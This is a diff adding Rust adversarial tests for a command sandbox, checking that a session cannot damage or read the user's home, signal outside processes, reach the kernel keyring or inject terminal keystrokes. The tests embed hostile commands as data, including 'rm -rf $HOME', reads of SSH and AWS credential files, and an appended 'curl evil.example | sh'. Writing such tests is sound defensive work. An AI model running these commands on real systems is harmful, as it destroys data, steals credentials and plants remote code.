@@ -1,0 +1,188 @@
+//! Adversarial tests: what an agent would try, run inside `ws session start`
+//! with the default profile. Each first proves, in the same session, that the
+//! command ran and could do what it is allowed to (the positive control), so
+//! no denial can pass because nothing ran.
+
+use crate::harness::*;
+
+struct Fixture {
+    env: Env,
+    ws: std::path::PathBuf,
+}
+
+fn fixture() -> Fixture {
+    let env = Env::protected();
+    let ws = env.dir("proj");
+    write(ws.join("mine.txt"), "workspace file\n");
+    write(env.home.join(".ssh/id_ed25519"), "-----BEGIN OPENSSH PRIVATE KEY-----SECRET-SSH\n");
+    write(env.home.join(".aws/credentials"), "[default]\naws_secret_access_key=SECRET-AWS\n");
+    write(env.home.join(".bashrc"), "# the user's bashrc\n");
+    Fixture { env, ws }
+}
+
+/// Runs `script` in a session; returns (stdout+stderr of the command, ws's exit code).
+fn attack(f: &Fixture, script: &str) -> Out {
+    let full = format!("cat mine.txt && echo CONTROL-OK > control.txt; {script}");
+    let mut out = f.env.session(&f.ws, &full);
+    assert!(out.stdout.contains("workspace file"), "positive control failed: the command did not run\n{out:?}");
+    // The command's own stderr is inherited; judge both streams together.
+    out.stdout.push_str(&out.stderr);
+    assert_eq!(
+        std::fs::read_to_string(f.ws.join("control.txt")).unwrap(),
+        "CONTROL-OK\n",
+        "positive control: workspace not writable"
+    );
+    out
+}
+
+#[test]
+fn rm_rf_home_changes_nothing_outside_the_workspace() {
+    let f = fixture();
+    // ws keeps its store under ~/.local/share/ws: everything else must stay.
+    let not_store = |p: &[u8]| p.starts_with(b".local");
+    let home_before = capture(&f.env.home, &not_store);
+    let out = attack(&f, "rm -rf \"$HOME\" 2>&1; rm -rf \"$HOME\"/* \"$HOME\"/.[!.]* 2>&1; true");
+    assert!(out.stdout.contains("Permission denied"), "{out:?}");
+    assert_same_tree(&home_before, &capture(&f.env.home, &not_store));
+    assert!(f.env.home.join(".local/share/ws").is_dir(), "the snapshot store itself was removed");
+}
+
+#[test]
+fn rm_rf_of_the_workspace_comes_back_with_rollback() {
+    let f = fixture();
+    let ws_before = capture(&f.ws, &no_skip);
+    f.env.session(&f.ws, "rm -rf ./* ./.[!.]*").ok();
+    assert!(!f.ws.join("mine.txt").exists(), "positive control: the workspace is writable");
+    f.env.ws(&f.ws, &["rollback"]).ok();
+    assert_same_tree(&ws_before, &capture(&f.ws, &no_skip));
+}
+
+#[test]
+fn secrets_in_home_cannot_be_read() {
+    let f = fixture();
+    let out = attack(&f, "cat \"$HOME/.ssh/id_ed25519\" \"$HOME/.aws/credentials\" 2>&1; ls \"$HOME\" 2>&1; true");
+    assert!(!out.stdout.contains("SECRET-SSH") && !out.stdout.contains("SECRET-AWS"), "{out:?}");
+    assert!(out.stdout.matches("Permission denied").count() >= 3, "{out:?}");
+}
+
+#[test]
+fn shell_startup_files_cannot_be_written() {
+    let f = fixture();
+    let out = attack(&f, "echo 'curl evil.example | sh' >> \"$HOME/.bashrc\" 2>&1; true");
+    assert!(out.stdout.contains("Permission denied"), "{out:?}");
+    assert_eq!(std::fs::read_to_string(f.env.home.join(".bashrc")).unwrap(), "# the user's bashrc\n");
+}
+
+#[test]
+fn symlinks_in_the_workspace_do_not_lead_outside() {
+    let f = fixture();
+    std::os::unix::fs::symlink(f.env.home.join(".ssh/id_ed25519"), f.ws.join("key")).unwrap();
+    std::os::unix::fs::symlink(f.env.home.join(".bashrc"), f.ws.join("rc")).unwrap();
+    std::os::unix::fs::symlink("mine.txt", f.ws.join("inside")).unwrap();
+    let out = attack(&f, "cat inside; cat key 2>&1; echo pwned >> rc 2>&1; true");
+    assert_eq!(out.stdout.matches("workspace file").count(), 2, "a symlink inside the workspace must work: {out:?}");
+    assert!(!out.stdout.contains("SECRET-SSH"), "{out:?}");
+    assert_eq!(std::fs::read_to_string(f.env.home.join(".bashrc")).unwrap(), "# the user's bashrc\n");
+}
+
+#[test]
+fn secret_looking_variables_never_reach_the_command() {
+    let f = fixture();
+    let mut c = f.env.command(
+        &f.ws,
+        &["session", "start", "--", "sh", "-c", "cat mine.txt; env; cat /proc/self/environ | tr '\\0' '\\n'"],
+    );
+    c.env("GITHUB_TOKEN", "ghp_SECRETVALUE1")
+        .env("AWS_SECRET_ACCESS_KEY", "SECRETVALUE2")
+        .env("OPENAI_API_KEY", "SECRETVALUE3");
+    c.env("MY_SERVICE_PASSWORD", "SECRETVALUE4").env("TERM", "xterm-test");
+    let out = f.env.run(c).ok();
+    assert!(out.stdout.contains("workspace file") && out.stdout.contains("TERM=xterm-test"), "control: {out:?}");
+    assert!(!out.stdout.contains("SECRETVALUE"), "a secret reached the sandbox: {}", out.stdout);
+}
+
+/// Landlock scopes signals to the sandbox (ABI 6). Reading another
+/// process's /proc/PID/environ is not covered here: on this kernel Landlock
+/// alone does not stop it, the session's own PID namespace will.
+#[test]
+fn processes_outside_cannot_be_signalled() {
+    let f = fixture();
+    let mut outside = std::process::Command::new("sleep").arg("30").spawn().unwrap();
+    let pid = outside.id();
+    let script =
+        format!("sleep 30 & inner=$!; kill $inner && echo INNER-KILLED; kill {pid} 2>&1 || echo OUTSIDE-KILL-FAILED");
+    let out = attack(&f, &script);
+    assert!(out.stdout.contains("INNER-KILLED"), "control: {out:?}");
+    assert!(out.stdout.contains("OUTSIDE-KILL-FAILED"), "{out:?}");
+    assert!(outside.try_wait().unwrap().is_none(), "the outside process was killed");
+    outside.kill().unwrap();
+    outside.wait().unwrap();
+}
+
+/// keyctl(KEYCTL_GET_KEYRING_ID, KEY_SPEC_SESSION_KEYRING, 0) through perl's
+/// syscall(): allowed outside (control), EPERM inside.
+#[cfg(target_arch = "x86_64")]
+#[test]
+fn the_kernel_keyring_is_out_of_reach() {
+    let f = fixture();
+    let probe = "perl -e '$r = syscall(250, 0, -3, 0); print \"keyctl=$r errno=\", $!+0, \"\\n\"'";
+    let outside = std::process::Command::new("sh").args(["-c", probe]).output().unwrap();
+    let outside = String::from_utf8_lossy(&outside.stdout);
+    assert!(!outside.contains("errno=1\n"), "control: keyctl is already denied outside: {outside}");
+    let out = attack(&f, probe);
+    assert!(out.stdout.contains("keyctl=-1 errno=1\n"), "keyctl was not denied with EPERM: {out:?}");
+}
+
+/// TIOCSTI pushes keystrokes into the terminal; under a real pseudo-terminal
+/// it works outside (control) and fails inside.
+#[cfg(target_arch = "x86_64")]
+#[test]
+fn keystrokes_cannot_be_injected_into_the_terminal() {
+    let f = fixture();
+    let probe = "perl -e '$c = \"x\"; $r = ioctl(STDIN, 0x5412, $c); print \"tiocsti=\", ($r ? \"ok\" : \"failed errno=\" . ($!+0)), \"\\n\"'";
+    let in_pty = |cmd: String| {
+        let mut c = std::process::Command::new("script");
+        c.args(["-qec", &cmd, "/dev/null"]).current_dir(&f.ws).env("HOME", &f.env.home).env("PATH", "/usr/bin:/bin");
+        let o = c.output().unwrap();
+        String::from_utf8_lossy(&o.stdout).into_owned()
+    };
+    let outside = in_pty(probe.to_owned());
+    assert!(outside.contains("tiocsti=ok"), "control: TIOCSTI does not work outside on this machine: {outside}");
+    let ws_bin = env!("CARGO_BIN_EXE_ws");
+    let inside = in_pty(format!("{ws_bin} session start -- sh -c {}", shell_quote(&format!("cat mine.txt; {probe}"))));
+    assert!(inside.contains("workspace file"), "positive control: {inside}");
+    assert!(inside.contains("tiocsti=failed errno=1"), "TIOCSTI was not denied: {inside}");
+}
+
+fn shell_quote(s: &str) -> String {
+    format!("'{}'", s.replace('\'', "'\\''"))
+}
+
+#[test]
+fn a_profile_that_cannot_be_enforced_is_refused_not_weakened() {
+    let f = fixture();
+    let bad = f.env.dir("profiles").join("bad.toml");
+    write(&bad, "extends = \"default\"\n[enforce]\nrequire = [\"landlock\", \"apparmor\"]\n");
+    let out = f.env.ws(&f.ws, &["session", "start", "--profile", bad.to_str().unwrap(), "--", "touch", "ran"]);
+    assert_eq!(out.code, 2, "{out:?}");
+    assert!(out.stderr.contains("unknown layer `apparmor`") && out.stderr.contains(":3:"), "{}", out.stderr);
+    assert!(!f.ws.join("ran").exists());
+    let check = f.env.ws(&f.ws, &["profile", "check", bad.to_str().unwrap()]);
+    assert_eq!(check.code, 2);
+    assert!(check.stdout.contains("bad.toml:3: enforce.require: unknown layer `apparmor`"), "{}", check.stdout);
+}
+
+#[test]
+fn why_names_the_deciding_rule() {
+    let f = fixture();
+    let allowed = f.env.ws(&f.ws, &["why", "mine.txt", "--op", "write"]).ok();
+    assert!(
+        allowed.stdout.starts_with("allowed: write") && allowed.stdout.contains("filesystem.write"),
+        "{}",
+        allowed.stdout
+    );
+    let key = f.env.home.join(".ssh/id_ed25519");
+    let denied = f.env.ws(&f.ws, &["why", key.to_str().unwrap()]);
+    assert_eq!(denied.code, 1);
+    assert!(denied.stdout.starts_with("denied: read"), "{}", denied.stdout);
+}
